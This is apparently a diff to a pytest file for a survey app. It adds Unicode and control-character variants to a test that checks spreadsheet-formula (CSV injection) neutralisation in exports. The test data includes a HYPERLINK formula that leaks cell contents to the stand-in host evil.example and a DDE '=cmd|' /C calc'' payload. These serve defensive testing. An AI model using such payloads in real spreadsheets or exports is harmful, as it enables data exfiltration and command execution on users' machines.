@@ -72,7 +72,8 @@ def test_csat_and_ces_have_no_nps_group(client, make):
 @pytest.mark.parametrize("dialect", ["standard", "excel-nl"])
 def test_cells_that_would_run_as_formulas_are_neutralised(client, make, survey, dialect):
     dangerous = ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', "+31 6 12345678",
-                 "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "\uff1dSUM(1)"]
+                 "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "\uff1dSUM(1)", " =1+1",
+                 "\u00a0\u200b@SUM(A1)", "\x01+1", "\u2212 1", "\uff20A1", "\ufe62 2"]
     for text in dangerous:
         answer(survey, 8, comment=text, reference="=1+1" if text.startswith("=") else None,
                contact="=cmd|' /C calc'!A0@x.nl", consent_at=utcnow(), consent_version=1)
